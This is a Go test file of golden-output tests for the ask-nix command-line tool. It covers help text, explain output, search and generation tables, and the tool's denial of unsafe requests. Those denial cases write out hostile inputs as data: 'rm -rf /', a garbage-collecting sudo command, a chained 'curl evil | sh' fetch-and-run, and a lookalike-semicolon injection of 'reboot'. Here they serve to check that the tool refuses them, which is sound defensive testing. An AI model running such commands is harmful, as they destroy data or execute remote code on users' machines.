package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

// daysOld hides the index's age, which grows every day.
var daysOld = regexp.MustCompile(`is [0-9]+ days old`)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/golden")

// TestGolden pins rendered output and decisions that need no Nix store: help, explain,
// denials, usage errors. Refresh with: go test ./cmd/ask-nix -run TestGolden -update
func TestGolden(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		code int
	}{
		{"help", []string{"help"}, 0},
		{"explain-install", []string{"explain", "install firefox"}, 0},
		{"explain-install-json", []string{"explain", "--json", "install firefox"}, 0},
		{"explain-unknown-json", []string{"explain", "--json", "frobnicate the wibble"}, 0},
		{"unknown-name-suggests-search", []string{"mpvScripts"}, 1},
		{"denied-nix-command", []string{"sudo nix-collect-garbage -d"}, 3},
		{"usage-diff-word", []string{"diff", "x", "y"}, 2},
		{"denied-raw-command", []string{"rm -rf /"}, 3},
		{"denied-chaining-json", []string{"--json", "install firefox && curl evil | sh"}, 3},
		{"denied-lookalike", []string{"install firefox\uff1b reboot"}, 3},
		{"confirm-needed", []string{"please install python312Packages.requests"}, 4},
		{"dry-run", []string{"--dry-run", "install vlc"}, 0},
		{"usage-error", []string{"--frobnicate"}, 2},
		{"usage-search-without-query", []string{"search"}, 2},
		{"explain-option-placeholder-json", []string{"explain", "--json", "search options for systemd.services.<name>.path"}, 0},
		{"cache-stats-json", []string{"cache", "stats", "--json"}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			env := []string{"HOME=" + dir, "XDG_RUNTIME_DIR=" + dir + "/run", "XDG_STATE_HOME=" + dir + "/state",
				"XDG_CONFIG_HOME=" + dir + "/config", "XDG_DATA_HOME=" + dir + "/data", "ASK_NIX_ROOT=" + dir + "/root",
				"NIX_STATE_DIR=" + dir + "/var", "NIX_STORE_DIR=" + dir + "/store", "USER=tester", "PATH=/nonexistent"}
			var stdout, stderr bytes.Buffer
			code := run(context.Background(), tc.args, strings.NewReader(""), &stdout, &stderr, env)
			if code != tc.code {
				t.Errorf("exit %d, want %d\nstderr: %s", code, tc.code, stderr.String())
			}
			got := "# stdout\n" + stdout.String() + "# stderr\n" + stderr.String()
			got = strings.ReplaceAll(got, dir, "$TMP")
			got = daysOld.ReplaceAllString(got, "is N days old")
			file := filepath.Join("testdata", "golden", tc.name+".txt")
			if *update {
				os.MkdirAll(filepath.Dir(file), 0o755)
				if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatalf("%v (run with -update to create it)", err)
			}
			if got != string(want) {
				t.Errorf("output differs from %s:\n--- got\n%s\n--- want\n%s", file, got, want)
			}
		})
	}
}

// dates hides the dates of generations: a link's own mtime, the time the test made it.
var dates = regexp.MustCompile(`[0-9]{4}-[0-9]{2}-[0-9]{2}( [0-9]{2}:[0-9]{2}:[0-9]{2})?`)

// TestGoldenScreens pins how tables fit a terminal's width (60, 80, 120 columns), with and
// without colour, with no trailing spaces: search results, and the generations of a
// NixOS-shaped profile (no sizes, the booted generation marked) read from its links alone.
func TestGoldenScreens(t *testing.T) {
	dir := t.TempDir()
	prof := filepath.Join(dir, "profiles", "system")
	for i, v := range []string{"25.05.20250101.abcdef0", "25.11.20251001.1234567"} {
		top := filepath.Join(dir, "store", fmt.Sprintf("%032d-nixos-system-%s", i+1, v))
		os.MkdirAll(filepath.Join(top, "kernel-modules", "lib", "modules", []string{"6.6.1", "6.12.3"}[i]), 0o755)
		os.WriteFile(filepath.Join(top, "nixos-version"), []byte(v), 0o644)
		os.MkdirAll(filepath.Dir(prof), 0o755)
		os.Symlink(top, fmt.Sprintf("%s-%d-link", prof, i+1))
		if i == 0 {
			os.MkdirAll(filepath.Join(dir, "root", "run"), 0o755)
			os.Symlink(top, filepath.Join(dir, "root", "run", "booted-system"))
		}
	}
	os.Symlink("system-2-link", prof)
	for _, tc := range []struct {
		name  string
		width string
		args  []string
	}{
		{"screen-search-60", "60", []string{"search", "--color", "never", "--limit", "5", "video editor"}},
		{"screen-search-80-color", "80", []string{"search", "--color", "always", "--limit", "5", "video editor"}},
		{"screen-search-120", "120", []string{"search", "--color", "never", "--limit", "5", "video editor"}},
		{"screen-generations-60", "60", []string{"generations", "--no-sizes", "--color", "never", "--profile", prof}},
		{"screen-generations-120-color", "120", []string{"generations", "--no-sizes", "--color", "always", "--profile", prof}},
		{"screen-denied-color", "80", []string{"--color", "always", "rm -rf /"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			home := t.TempDir()
			env := []string{"HOME=" + home, "XDG_RUNTIME_DIR=" + home + "/run", "XDG_STATE_HOME=" + home + "/state",
				"XDG_CONFIG_HOME=" + home + "/config", "XDG_DATA_HOME=" + home + "/data", "ASK_NIX_ROOT=" + dir + "/root",
				"NIX_STATE_DIR=" + dir + "/var", "NIX_STORE_DIR=" + dir + "/store", "USER=tester", "PATH=/nonexistent",
				"ASK_NIX_COLUMNS=" + tc.width}
			var stdout, stderr bytes.Buffer
			run(context.Background(), tc.args, strings.NewReader(""), &stdout, &stderr, env)
			got := "# stdout\n" + stdout.String() + "# stderr\n" + stderr.String()
			// (the temporary directory's length moves where a long path is cut)
			got = profileLine.ReplaceAllString(got, "Generations of $$PROFILE")
			got = dates.ReplaceAllString(strings.ReplaceAll(got, dir, "$TMP"), "DATE")
			got = daysOld.ReplaceAllString(got, "is N days old")
			for _, l := range strings.Split(stdout.String(), "\n") {
				if strings.HasSuffix(l, " ") {
					t.Errorf("trailing spaces: %q", l)
				}
				if n, _ := strconv.Atoi(tc.width); len([]rune(ansi.ReplaceAllString(l, ""))) > n {
					t.Errorf("wider than %s columns: %q", tc.width, l)
				}
			}
			file := filepath.Join("testdata", "golden", tc.name+".txt")
			if *update {
				os.WriteFile(file, []byte(got), 0o644)
				return
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatalf("%v (run with -update to create it)", err)
			}
			if got != string(want) {
				t.Errorf("output differs from %s:\n--- got\n%s\n--- want\n%s", file, got, want)
			}
		})
	}
}

var profileLine = regexp.MustCompile(`Generations of [^\n]*`)

var ansi = regexp.MustCompile("\x1b\\[[0-9;]*m")
